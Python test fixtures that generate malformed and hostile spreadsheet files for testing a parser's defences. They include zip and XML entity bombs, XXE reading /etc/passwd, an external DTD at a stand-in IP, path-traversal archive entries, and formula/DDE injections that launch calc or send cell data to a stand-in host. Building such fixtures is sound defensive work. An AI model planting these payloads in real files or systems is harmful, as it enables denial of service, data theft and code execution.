"""Workbooks that are broken, odd or hostile, each made by the function of its name: ``sentences.py`` says what becomes of
them. All hold, or claim to hold, the volumes of ``ROWS``. Nothing large is kept: the bombs are made when they are needed.
"""

import io
import json
import os
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterable, Mapping
from pathlib import Path

from tests.workbooks.hostile.containers import (
    ROWS,
    biff5,
    biff8,
    ods,
    ods_rows,
    ole,
    record,
    xls,
    xls_with_password,
    xlsb,
    xlsb_sheet,
)

Make = Callable[[Path], object]
SPACE = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PACKAGE = "http://schemas.openxmlformats.org/package/2006"
HEAD = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
TEXTS = ["Function", "Jan-26", "Feb-26", "Service desk", "Invoices"]
DATA = (
    '<row r="1"><c r="A1" t="s"><v>0</v></c><c r="B1" t="s"><v>1</v></c><c r="C1" t="s"><v>2</v></c></row>'
    '<row r="2"><c r="A2" t="s"><v>3</v></c><c r="B2"><v>100</v></c><c r="C2"><v>120</v></c></row>'
    '<row r="3"><c r="A3" t="s"><v>4</v></c><c r="B3"><v>10</v></c><c r="C3"><v>20</v></c></row>'
)
STYLES = (
    f'{HEAD}<styleSheet xmlns="{SPACE}"><fonts count="1"><font/></fonts><fills count="1"><fill><patternFill/></fill></fills><borders '
    'count="1"><border/></borders><cellStyleXfs count="1"><xf numFmtId="0"/></cellStyleXfs><cellXfs count="2">'
    '<xf numFmtId="0"/><xf numFmtId="14" applyNumberFormat="1"/></cellXfs></styleSheet>'
)


def sheet(data: str = DATA, *, before: str = "", after: str = "") -> str:
    return f'{HEAD}<worksheet xmlns="{SPACE}">{before}<sheetData>{data}</sheetData>{after}</worksheet>'


def texts(found: Iterable[str] = TEXTS) -> str:
    return f'{HEAD}<sst xmlns="{SPACE}">{"".join(f"<si><t>{text}</t></si>" for text in found)}</sst>'


def relations(*found: tuple[str, str, str]) -> str:
    made = "".join(f'<Relationship Id="{i}" Type="{OFFICE}/{kind}" Target="{to}"/>' for i, kind, to in found)
    return f'{HEAD}<Relationships xmlns="{PACKAGE}/relationships">{made}</Relationships>'


BOOK = (
    f'{HEAD}<workbook xmlns="{SPACE}" xmlns:r="{OFFICE}"><sheets><sheet name="Volumes" sheetId="1" r:id="rId1"/></sheets>'
    "</workbook>"
)
BOOK_RELATIONS = relations(
    ("rId1", "worksheet", "worksheets/sheet1.xml"),
    ("rId2", "styles", "styles.xml"),
    ("rId3", "sharedStrings", "sharedStrings.xml"),
)
TYPES = (
    f'{HEAD}<Types xmlns="{PACKAGE}/content-types"><Default Extension="rels" '
    'ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" '
    'ContentType="application/xml"/><Override PartName="/xl/workbook.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override '
    'PartName="/xl/worksheets/sheet1.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/><Override '
    'PartName="/xl/sharedStrings.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/>'
    '<Override PartName="/xl/styles.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.styles+xml"/></Types>'
)
PARTS: Mapping[str, str] = {
    "[Content_Types].xml": TYPES,
    "_rels/.rels": relations(("rId1", "officeDocument", "xl/workbook.xml")),
    "xl/workbook.xml": BOOK,
    "xl/_rels/workbook.xml.rels": BOOK_RELATIONS,
    "xl/styles.xml": STYLES,
    "xl/sharedStrings.xml": texts(),
    "xl/worksheets/sheet1.xml": sheet(),
}
SHEET, SST = "xl/worksheets/sheet1.xml", "xl/sharedStrings.xml"


def book(path: Path, changed: Mapping[str, str | bytes | Iterable[bytes] | None] | None = None) -> None:
    """A small workbook with some of its parts changed, added or (None) left out."""
    parts: dict[str, str | bytes | Iterable[bytes] | None] = {**PARTS, **(changed or {})}
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as package:
        for name, content in parts.items():
            if isinstance(content, (str, bytes)):
                package.writestr(name, content)
            elif content is not None:
                with package.open(name, "w", force_zip64=True) as stream:
                    for piece in content:
                        stream.write(piece)


def with_data(path: Path, data: str, *, before: str = "", after: str = "") -> None:
    book(path, {SHEET: sheet(data, before=before, after=after)})


# ------------------------------------------------------------------------------------------------- bombs


def bomb_of_spaces(path: Path) -> None:
    head, tail = sheet().encode().split(b"</sheetData>")
    book(path, {SHEET: [head, *[b" " * 1_000_000] * 600, b"</sheetData>", tail]})


def bomb_of_spaces_below_the_ratio(path: Path) -> None:
    """Packed worse on purpose: only the limit of all parts together finds it."""
    noise = os.urandom(24_000)
    book(path, {f"xl/media/noise{n}.bin": [noise + b"\0" * 1_200_000] * 20 for n in range(25)})


def bomb_of_one_text(path: Path) -> None:
    noise = os.urandom(6_000).hex().encode()
    book(path, {SST: [texts().encode().removesuffix(b"</sst>"), b"<si><t>", *[noise * 60] * 140, b"</t></si></sst>"]})


def bomb_of_a_text_in_its_cell(path: Path) -> None:
    noise = os.urandom(6_000).hex().encode()
    head, tail = sheet().encode().split(b"</sheetData>")
    cell = b'<row r="4"><c r="A4" t="inlineStr"><is><t>'
    book(path, {SHEET: [head, cell, *[noise * 60] * 60, b"</t></is></c></row></sheetData>", tail]})


def bomb_of_texts(path: Path) -> None:
    pieces = (
        b"".join(b"<si><t>%x</t></si>" % (n * 2_654_435_761 % 4_294_967_296) for n in range(start, start + 100_000))
        for start in range(0, 3_000_000, 100_000)
    )
    book(path, {SST: [texts().encode().removesuffix(b"</sst>"), *pieces, b"</sst>"]})


def bomb_of_the_same_texts(path: Path) -> None:
    many = b"<si><t>a</t></si>" * 60_000
    book(path, {SST: [texts().encode().removesuffix(b"</sst>"), *[many] * 60, b"</sst>"]})


def zip_in_a_zip(path: Path) -> None:
    inner = io.BytesIO()
    with zipfile.ZipFile(inner, "w", zipfile.ZIP_DEFLATED) as package:
        package.writestr("zeros", b"\0" * 20_000_000)
    inside = inner.getvalue()
    for _ in range(3):
        outer = io.BytesIO()
        with zipfile.ZipFile(outer, "w", zipfile.ZIP_DEFLATED) as package:
            for number in range(10):
                package.writestr(f"{number}.zip", inside)
        inside = outer.getvalue()
    path.write_bytes(inside)


def workbook_in_a_zip(path: Path) -> None:
    inner = path.with_suffix(".inner")
    book(inner)
    with zipfile.ZipFile(path, "w") as package:
        package.write(inner, "report/volumes.xlsx")


def zip_bomb_as_a_part(path: Path) -> None:
    inner = io.BytesIO()
    with zipfile.ZipFile(inner, "w", zipfile.ZIP_DEFLATED) as package:
        package.writestr("zeros", b"\0" * 100_000_000)
    book(path, {"xl/embeddings/bomb.zip": inner.getvalue()})


def _entities(levels: int) -> str:
    made = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10}">' for n in range(1, levels))
    return f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e0 "ha">{made}]>'


def bomb_of_entities(path: Path) -> None:
    book(path, {SST: _entities(12) + texts(["&e11;"]).removeprefix(HEAD)})


def bomb_of_entities_behind_a_comment(path: Path) -> None:
    book(path, {SST: HEAD + "<!--" + " x" * 900_000 + "-->" + _entities(12)[21:] + texts(["&e11;"]).removeprefix(HEAD)})


def bomb_of_entities_in_utf_16(path: Path) -> None:
    text = _entities(12).replace("?>", ' encoding="UTF-16"?>', 1) + texts(["&e11;"]).removeprefix(HEAD)
    book(path, {SST: text.encode("utf-16")})


def external_entity(path: Path) -> None:
    head = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
    book(path, {SST: head + texts(["&e;"]).removeprefix(HEAD)})


def external_document_type(path: Path) -> None:
    head = '<?xml version="1.0"?><!DOCTYPE worksheet SYSTEM "http://192.0.2.1/evil.dtd">'
    book(path, {SHEET: head + sheet().removeprefix(HEAD)})


def parts_without_end(path: Path) -> None:
    names = [*PARTS, *(f"{number:x}" for number in range(200_000))]
    _shared(path, names, b"", 0)


def parts_that_share_one_body(path: Path) -> None:
    """Every entry of the list points to the same packed bytes, so that a small file unpacks to a large one."""
    content = b"".join(os.urandom(600) + b"\0" * 20_000 for _ in range(580))
    _shared(path, [*PARTS, *map(str, range(900))], content, 1)


def _shared(path: Path, names: Iterable[str], content: bytes, level: int) -> None:
    packer = zlib.compressobj(level, zlib.DEFLATED, -15)
    body, crc, size = packer.compress(content) + packer.flush(), zlib.crc32(content), len(content)
    fields = (20, 0, 8, 0, 33, crc, len(body), size)
    found = [name.encode() for name in names]
    local = b"".join(struct.pack("<IHHHHHIIIHH", 0x04034B50, *fields, len(n), 0) + n + body for n in found[:1])
    entries = b"".join(
        struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, *fields, len(name), 0, 0, 0, 0, 0, 0) + name for name in found
    )
    count = min(len(found), 0xFFFF)
    path.write_bytes(
        local + entries + struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, count, count, len(entries), len(local), 0)
    )


def size_that_lies(path: Path) -> None:
    """The list says 100 bytes and their checksum; what is packed has thirty million."""
    content = b"".join(os.urandom(20_000) + b"\0" * 980_000 for _ in range(30))
    book(path, {"xl/media/x.bin": content})
    data = bytearray(path.read_bytes())
    _claim(data, len(content), zlib.crc32(content), 100, zlib.crc32(content[:100]))
    path.write_bytes(data)


def _claim(data: bytearray, size: int, crc: int, claimed: int, claimed_crc: int) -> None:
    for real, false in ((size, claimed), (crc, claimed_crc)):
        at = 0
        while (at := data.find(struct.pack("<I", real), at)) >= 0:
            data[at : at + 4] = struct.pack("<I", false)


# ------------------------------------------------------------------------------- sheets: places, merges, rows


def far_cell(path: Path) -> None:
    with_data(path, DATA + '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>')


def far_cell_in_single_quotes(path: Path) -> None:
    with_data(path, DATA + "<row r='1048576'><c r='XFD1048576'><v>1</v></c></row>")


def far_cell_out_of_order(path: Path) -> None:
    with_data(path, '<row r="900000"><c s="1" t="n" r="ZZ900000"><v>1</v></c></row>' + DATA)


def far_cell_without_its_place(path: Path) -> None:
    with_data(path, DATA + '<row r="1048000"><c><v>7</v></c></row>')


def far_cell_of_an_xls(path: Path) -> None:
    stream = biff8(ROWS)
    far = record(0x0203, struct.pack("<HHHd", 65_535, 255, 0, 1.0))
    path.write_bytes(ole({"Workbook": stream.removesuffix(record(0x000A)) + far + record(0x000A)}))


def far_cell_of_an_xlsb(path: Path) -> None:
    xlsb(path, xlsb_sheet(ROWS, far=True))


def far_cell_of_an_xlsb_that_lies(path: Path) -> None:
    """It says to span three rows."""
    sheet_ = xlsb_sheet(ROWS, far=True)
    xlsb(path, sheet_.replace(struct.pack("<IIII", 0, 1_048_575, 0, 16_383), struct.pack("<IIII", 0, 2, 0, 2)))


def column_xfe(path: Path) -> None:
    with_data(path, DATA + '<row r="4"><c r="XFE4"><v>1</v></c></row>')


def column_zzz(path: Path) -> None:
    with_data(path, DATA + '<row r="4"><c r="ZZZZZZ4"><v>1</v></c></row>')


def row_zero(path: Path) -> None:
    with_data(path, '<row r="0"><c r="A0"><v>1</v></c></row>' + DATA)


def row_below_the_last(path: Path) -> None:
    with_data(path, DATA + '<row r="1048577"><c r="A1048577"><v>1</v></c></row>')


def row_of_many_digits(path: Path) -> None:
    with_data(path, DATA + f'<row r="{"9" * 30}"><c r="A{"9" * 30}"><v>1</v></c></row>')


def negative_row(path: Path) -> None:
    with_data(path, DATA + '<row r="-4"><c r="A-4"><v>1</v></c></row>')


def columns_beyond_the_last(path: Path) -> None:
    with_data(path, f'{DATA}<row r="4">{"<c><v>1</v></c>" * 16_385}</row>')


def cells_without_their_places(path: Path) -> None:
    import re

    with_data(path, re.sub(r' r="[A-Z]*\d+"', "", DATA))


def attributes_in_single_quotes(path: Path) -> None:
    book(path, {SHEET: sheet().replace('"', "'")})


def rows_out_of_order(path: Path) -> None:
    rows = DATA.replace("</row>", "</row>\n").split("\n")
    with_data(path, rows[2] + rows[0] + rows[1])


def row_twice(path: Path) -> None:
    with_data(
        path, DATA + '<row r="3"><c r="A3" t="s"><v>4</v></c><c r="B3"><v>10</v></c><c r="C3"><v>20</v></c></row>'
    )


def cell_twice(path: Path) -> None:
    with_data(path, DATA.replace('<c r="B3">', '<c r="B3"><v>10</v></c><c r="B3">'))


def merge_of_the_whole_sheet(path: Path) -> None:
    with_data(path, DATA, after='<mergeCells count="1"><mergeCell ref="A1:XFD1048576"/></mergeCells>')


def merge_of_whole_columns(path: Path) -> None:
    with_data(path, DATA, after='<mergeCells count="1"><mergeCell ref="E1:XFD1048576"/></mergeCells>')


def merges_without_end(path: Path) -> None:
    merges = "".join(f'<mergeCell ref="E{n}:F{n}"/>' for n in range(1, 60_001))
    with_data(path, DATA, after=f'<mergeCells count="60000">{merges}</mergeCells>')


def merge_of_nothing(path: Path) -> None:
    with_data(path, DATA, after='<mergeCells count="1"><mergeCell ref="#REF!"/></mergeCells>')


def million_styled_empty_rows(path: Path) -> None:
    rows = "".join(f'<row r="{n}" s="1" customFormat="1"/>' for n in range(4, 1_000_001))
    with_data(path, DATA + rows)


def million_styled_empty_cells(path: Path) -> None:
    rows = "".join(f'<row r="{n}"><c r="A{n}" s="1"/></row>' for n in range(4, 1_000_001))
    with_data(path, DATA + rows)


def sheet_without_data(path: Path) -> None:
    book(path, {SHEET: f'{HEAD}<worksheet xmlns="{SPACE}"><sheetViews/></worksheet>'})


def sheet_that_is_no_sheet(path: Path) -> None:
    book(path, {SHEET: f"{HEAD}<html><body>Volumes</body></html>"})


def sheet_cut_in_a_cell(path: Path) -> None:
    book(path, {SHEET: sheet()[:-120]})


def deep_elements(path: Path) -> None:
    with_data(path, DATA, after="<extLst>" + "<ext>" * 100_000 + "</ext>" * 100_000 + "</extLst>")


# ------------------------------------------------------------------------------------------ values and indexes


def text_out_of_range(path: Path) -> None:
    with_data(path, DATA.replace("<v>3</v>", "<v>99</v>"))


def text_of_a_negative_number(path: Path) -> None:
    with_data(path, DATA.replace("<v>3</v>", "<v>-3</v>"))


def text_that_is_no_number(path: Path) -> None:
    with_data(path, DATA.replace("<v>3</v>", "<v>three</v>"))


def style_out_of_range(path: Path) -> None:
    with_data(path, DATA.replace('<c r="B2">', '<c r="B2" s="4000000000">'))


def style_of_a_negative_number(path: Path) -> None:
    with_data(path, DATA.replace('<c r="B2">', '<c r="B2" s="-1">'))


def numbers_that_are_none(path: Path) -> None:
    row = '<row r="4"><c r="A4" t="inlineStr"><is><t>Moves</t></is></c><c r="B4"><v>NaN</v></c><c r="C4"><v>1e400</v></c></row>'
    with_data(path, DATA + row)


def dates_out_of_range(path: Path) -> None:
    row = (
        '<row r="4"><c r="A4" t="inlineStr"><is><t>Moves</t></is></c><c r="B4" s="1"><v>1e9</v></c>'
        '<c r="C4" s="1"><v>-5</v></c></row>'
    )
    with_data(path, DATA + row)


def formulas_that_start_a_program(path: Path) -> None:
    cells = [
        "cmd|' /C calc'!A0", 'WEBSERVICE("http://192.0.2.1/"&amp;A2)', 'HYPERLINK("http://192.0.2.1/","Invoices")',
        'DDE("cmd";"/C calc";"")', 'CALL("kernel32","WinExec","JCJ","calc",0)',
    ]  # fmt: skip
    row = "".join(f'<c r="{"DEFGH"[n]}3" t="str"><f>{cell}</f><v>x</v></c>' for n, cell in enumerate(cells))
    with_data(path, DATA.removesuffix("</row>") + row + "</row>")


def texts_that_look_like_formulas(path: Path) -> None:
    book(path, {SST: texts([*TEXTS[:3], "=cmd|' /C calc'!A0", "@Invoices"])})


def invalid_utf_8(path: Path) -> None:
    book(path, {SST: texts().encode().replace(b"Invoices", b"Inv\xff\xfeoices")})


def parts_in_utf_16(path: Path) -> None:
    book(path, {p: PARTS[p].replace("UTF-8", "UTF-16").encode("utf-16") for p in (SHEET, SST)})


def control_characters(path: Path) -> None:
    book(path, {SST: texts().replace("Invoices", "Inv\x01oices")})


# ----------------------------------------------------------------------------------------- the package itself


def part_outside(path: Path) -> None:
    book(path, {"../../evil.xml": "<x/>"})


def part_with_an_absolute_name(path: Path) -> None:
    book(path, {"/etc/cron.d/evil": "x"})


def part_on_a_drive(path: Path) -> None:
    book(path, {"xl\\..\\..\\evil.xml": "x"})


def part_twice(path: Path) -> None:
    book(path)
    _again(path, SHEET)


def part_twice_in_other_letters(path: Path) -> None:
    book(path)
    _again(path, SHEET.replace("sheet1", "Sheet1"))


def _again(path: Path, name: str) -> None:
    import warnings

    with warnings.catch_warnings(), zipfile.ZipFile(path, "a") as package:
        warnings.simplefilter("ignore")
        package.writestr(name, sheet(DATA.replace("100", "999")))


def no_relations(path: Path) -> None:
    book(path, {"xl/_rels/workbook.xml.rels": None})


def no_workbook(path: Path) -> None:
    book(path, {"xl/workbook.xml": None})


def no_content_types(path: Path) -> None:
    book(path, {"[Content_Types].xml": None})


def no_sheet_part(path: Path) -> None:
    book(path, {SHEET: None})


def no_texts_part(path: Path) -> None:
    book(path, {SST: None})


def no_styles_part(path: Path) -> None:
    book(path, {"xl/styles.xml": None})


def relations_in_a_circle(path: Path) -> None:
    circle = relations(("rId1", "worksheet", "workbook.xml"), ("rId2", "styles", "_rels/workbook.xml.rels"))
    book(path, {"xl/_rels/workbook.xml.rels": circle})


def relations_that_point_outside(path: Path) -> None:
    book(path, {"xl/_rels/workbook.xml.rels": relations(("rId1", "worksheet", "../../../../etc/passwd"))})


def external_link(path: Path) -> None:
    link = f'{HEAD}<externalLink xmlns="{SPACE}"/>'
    to = relations(("rId1", "externalLinkPath", "file://192.0.2.1/share/secret.xlsx")).replace(
        'Target="file', 'TargetMode="External" Target="file'
    )
    both = (
        BOOK_RELATIONS.replace("</Relationships>", "")
        + relations(("rId9", "externalLink", "externalLinks/externalLink1.xml")).partition('relationships">')[2]
    )
    named = BOOK.replace(
        "</sheets>", '</sheets><externalReferences><externalReference r:id="rId9"/></externalReferences>'
    )
    book(
        path,
        {
            "xl/workbook.xml": named,
            "xl/_rels/workbook.xml.rels": both,
            "xl/externalLinks/externalLink1.xml": link,
            "xl/externalLinks/_rels/externalLink1.xml.rels": to,
        },
    )


def macros(path: Path) -> None:
    types = TYPES.replace("sheet.main+xml", "MAIN").replace(
        "openxmlformats-officedocument.spreadsheetml.MAIN", "ms-excel.sheet.macroEnabled.main+xml"
    )
    book(path, {"[Content_Types].xml": types, "xl/vbaProject.bin": ole({"VBA": b"Sub Auto_Open()"})})


def chart_sheet_only(path: Path) -> None:
    chart = BOOK_RELATIONS.replace('/worksheet"', '/chartsheet"')
    book(path, {"xl/_rels/workbook.xml.rels": chart})


def zip_with_a_password(path: Path) -> None:
    book(path)
    data = bytearray(path.read_bytes())
    at = 0
    while (at := data.find(b"PK\x01\x02", at)) >= 0:
        data[at + 8] |= 1
        at += 4
    path.write_bytes(data)


def cut_in_the_middle(path: Path) -> None:
    book(path)
    path.write_bytes(path.read_bytes()[: path.stat().st_size // 2])


def cut_in_its_list(path: Path) -> None:
    book(path)
    path.write_bytes(path.read_bytes()[:-30])


def flipped_in_a_part(path: Path) -> None:
    book(path)
    data = bytearray(path.read_bytes())
    at = data.find(SHEET.encode()) + 200
    data[at : at + 20] = bytes(b ^ 0xFF for b in data[at : at + 20])
    path.write_bytes(data)


def flipped_in_its_list(path: Path) -> None:
    book(path)
    data = bytearray(path.read_bytes())
    at = data.rfind(b"PK\x01\x02")
    data[at + 42 : at + 46] = b"\xff\xff\xff\x7f"
    path.write_bytes(data)


def bytes_before_the_package(path: Path) -> None:
    book(path)
    path.write_bytes(b"PK\x03\x04" + b"\0" * 60 + path.read_bytes())


# ------------------------------------------------------------------------------- other files under this name


def web_page(path: Path) -> None:
    path.write_text("<html><body><table><tr><td>Function</td><td>Jan-26</td></tr></table></body></html>")


def web_page_called_csv(path: Path) -> None:
    web_page(path)


def xml_of_excel_2003(path: Path) -> None:
    path.write_text('<?xml version="1.0"?><?mso-application progid="Excel.Sheet"?><Workbook><Worksheet/></Workbook>')


def csv_called_xlsx(path: Path) -> None:
    path.write_text("Function,Jan-26\nService desk,100\n")


def json_called_xlsx(path: Path) -> None:
    path.write_text(json.dumps([{"function": "Service desk", "2026-01": 100}]))


def pdf_called_xlsx(path: Path) -> None:
    path.write_bytes(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<<>>\nendobj\n")


def picture_called_xlsx(path: Path) -> None:
    path.write_bytes(b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR" + os.urandom(400))


def word_called_xlsx(path: Path) -> None:
    with zipfile.ZipFile(path, "w") as package:
        package.writestr("[Content_Types].xml", TYPES)
        package.writestr("word/document.xml", "<document/>")


def zip_called_xlsx(path: Path) -> None:
    with zipfile.ZipFile(path, "w") as package:
        package.writestr("readme.txt", "nothing here")


def nothing(path: Path) -> None:
    path.write_bytes(b"")


def blanks(path: Path) -> None:
    path.write_bytes(b"\r\n \t" * 1_000)


def noise(path: Path) -> None:
    path.write_bytes(b"\x17\x2a" + os.urandom(5_000))


# ---------------------------------------------------------------------------------------------- xls, xlsb, ods


def plain_xls(path: Path) -> None:
    path.write_bytes(xls())


def ole_with_a_loop(path: Path) -> None:
    path.write_bytes(ole({"Workbook": biff8(ROWS)}, loop="Workbook"))


def ole_with_a_loop_in_its_directory(path: Path) -> None:
    data = bytearray(ole({"Workbook": biff8(ROWS)}))
    directory = struct.unpack_from("<I", data, 48)[0]
    struct.pack_into("<I", data, 512 + 4 * directory, directory)
    path.write_bytes(data)


def ole_with_siblings_in_a_circle(path: Path) -> None:
    data = bytearray(ole({"Workbook": biff8(ROWS), "Other": b"x"}))
    directory = struct.unpack_from("<I", data, 48)[0]
    struct.pack_into("<I", data, 512 * (directory + 1) + 2 * 128 + 72, 1)
    path.write_bytes(data)


def ole_cut(path: Path) -> None:
    path.write_bytes(xls()[:2_000])


def ole_with_word(path: Path) -> None:
    path.write_bytes(ole({"WordDocument": b"\xec\xa5" + b"\0" * 500, "1Table": b"\0" * 500}))


def ole_of_something_else(path: Path) -> None:
    path.write_bytes(ole({"__properties_version1.0": b"\0" * 500}))


def xls_of_excel_5(path: Path) -> None:
    path.write_bytes(biff5())


def xls_of_excel_4(path: Path) -> None:
    path.write_bytes(record(0x0409, b"\0\0\x10\0\0\0") + record(0x000A))


def xls_with_cut_records(path: Path) -> None:
    path.write_bytes(ole({"Workbook": biff8(ROWS)[:150] + b"\x03\x02\xff\xff"}))


def xls_of_noise(path: Path) -> None:
    path.write_bytes(ole({"Workbook": biff8([])[:30] + os.urandom(9_000)}))


def plain_xlsb(path: Path) -> None:
    xlsb(path, xlsb_sheet())


def xlsb_with_cut_records(path: Path) -> None:
    xlsb(path, xlsb_sheet()[:90])


def xlsb_of_noise(path: Path) -> None:
    xlsb(path, xlsb_sheet()[:20] + os.urandom(4_000))


def plain_ods(path: Path) -> None:
    ods(path, ods_rows())


def ods_with_empty_rows_to_the_end(path: Path) -> None:
    """As LibreOffice writes it."""
    empty = (
        '<table:table-row table:number-rows-repeated="1048573"><table:table-cell table:number-columns-repeated="16384"/>'
        "</table:table-row>"
    )
    ods(path, ods_rows() + empty)


def ods_bomb(path: Path) -> None:
    cell = '<table:table-cell office:value-type="float" office:value="1" table:number-columns-repeated="16384"/>'
    ods(path, f'{ods_rows()}<table:table-row table:number-rows-repeated="1048573">{cell}</table:table-row>')


def ods_with_a_row_of_numbers_without_end(path: Path) -> None:
    cell = '<table:table-cell office:value-type="float" office:value="1" table:number-columns-repeated="4000000000"/>'
    ods(path, f"{ods_rows()}<table:table-row>{cell}</table:table-row>")


def ods_with_a_far_cell(path: Path) -> None:
    gap = '<table:table-row table:number-rows-repeated="1048000"><table:table-cell/></table:table-row>'
    far = (
        '<table:table-row><table:table-cell table:number-columns-repeated="16000"/>'
        '<table:table-cell office:value-type="float" office:value="1"/></table:table-row>'
    )
    ods(path, ods_rows() + gap + far)


def ods_text_document(path: Path) -> None:
    with zipfile.ZipFile(path, "w") as package:
        package.writestr("mimetype", "application/vnd.oasis.opendocument.text")
        package.writestr("content.xml", "<x/>")


# ---------------------------------------------------------------------------------------------------- passwords


def _locked(path: Path, password: str, spins: int = 1_000) -> None:
    from msoffcrypto.method.ecma376_agile import ECMA376Agile

    plain = path.with_suffix(".plain")
    book(plain, {"xl/media/noise.bin": os.urandom(9_000)})  # the library can't write what is shorter than 4 KB
    with plain.open("rb") as stream:
        path.write_bytes(ECMA376Agile.encrypt(password, stream, spin_count=spins))


def password(path: Path) -> None:
    _locked(path, "Secret-1")


def password_of_an_xls(path: Path) -> None:
    path.write_bytes(xls_with_password("Secret-1"))


def password_that_excel_gives_itself(path: Path) -> None:
    _locked(path, "VelvetSweatshop")


def password_hashed_ten_million_times(path: Path) -> None:
    _locked(path, "Secret-1", spins=10)
    was, claimed = b'spinCount="10" saltSize="16"', b'spinCount="9999999"'
    data = path.read_bytes()
    assert was in data
    path.write_bytes(data.replace(was, claimed.ljust(len(was))))


def protection_with_entities(path: Path) -> None:
    info = b"\4\0\4\0\x40\0\0\0" + _entities(12).encode() + b'<encryption spinCount="1">&e11;</encryption>'
    path.write_bytes(ole({"EncryptionInfo": info, "EncryptedPackage": b"\0" * 5_000}))


def protection_of_noise(path: Path) -> None:
    path.write_bytes(ole({"EncryptionInfo": os.urandom(900), "EncryptedPackage": os.urandom(5_000)}))


def protection_by_rights(path: Path) -> None:
    path.write_bytes(ole({"EncryptedPackage": os.urandom(5_000), "DRMContent": b"x"}))


# --------------------------------------------------------------------------------------------------------- text

CSV = "Function,Jan-26,Feb-26\nService desk,100,120\nInvoices,10,20\n"


def plain_csv(path: Path) -> None:
    path.write_text(CSV)


def csv_of_one_line(path: Path) -> None:
    path.write_bytes(b"x" * 49_000_000)


def csv_of_one_row(path: Path) -> None:
    path.write_bytes(b"1," * 3_900_000)


def csv_with_zeros(path: Path) -> None:
    path.write_bytes(CSV.encode().replace(b"Invoices", b"Inv\0ices"))


def csv_that_ends_in_zeros(path: Path) -> None:
    path.write_bytes(CSV.encode() + b"\0" * 5_000)


def csv_of_a_million_quotes(path: Path) -> None:
    path.write_text(CSV + '"' * 1_000_001)


def csv_with_a_quote_that_stays_open(path: Path) -> None:
    path.write_text(CSV.replace("Service desk", '"Service desk'))


def csv_with_a_late_quote_that_stays_open(path: Path) -> None:
    rows = "".join(f"Function {n},1,2\n" for n in range(30_000))
    path.write_text(CSV + '"Moves,1,2\n' + rows)


def csv_in_latin_1(path: Path) -> None:
    path.write_bytes(CSV.replace("Invoices", "Aufträge für Köln").encode("latin-1"))


def csv_in_utf_16(path: Path) -> None:
    path.write_bytes(CSV.replace(",", "\t").encode("utf-16"))


def csv_in_utf_16_without_a_mark(path: Path) -> None:
    path.write_bytes(CSV.encode("utf-16-le"))


def csv_in_utf_8_with_a_mark(path: Path) -> None:
    path.write_bytes(CSV.encode("utf-8-sig"))


def csv_in_cyrillic(path: Path) -> None:
    path.write_bytes(CSV.replace("Invoices", "Обработка счетов").replace("Service desk", "Служба").encode("cp1251"))


def csv_that_says_its_mark(path: Path) -> None:
    path.write_text("sep=;\r\n" + CSV.replace(",", ";"))


def csv_with_mixed_line_ends(path: Path) -> None:
    path.write_bytes(CSV.replace("\n", "\r\n", 1).replace("120\n", "120\r").encode())


def csv_with_texts_over_lines(path: Path) -> None:
    path.write_text(CSV.replace("Invoices", '"Invoices\r\nand credit notes, ""all"""'))


def csv_with_ragged_rows(path: Path) -> None:
    rows = "".join(f"Function {n},1,2\n" for n in range(60))
    path.write_text(CSV + rows + "Moves, home,5,6\nLost,7\n")


def csv_with_a_broken_letter(path: Path) -> None:
    rows = "".join(f"Prüfung Größe {n},1,2\n" for n in range(30))
    path.write_bytes(CSV.encode() + rows.encode() + b"Gr\xfc\xdfe,0,0\n")


def csv_with_formulas(path: Path) -> None:
    path.write_text(CSV.replace("Invoices", "=cmd|' /C calc'!A0"))


def csv_with_too_many_columns(path: Path) -> None:
    path.write_text("\n".join([",".join(["1"] * 16_385)] * 3))


def csv_of_prose(path: Path) -> None:
    path.write_text("Dear Sir\nplease find nothing attached\n")
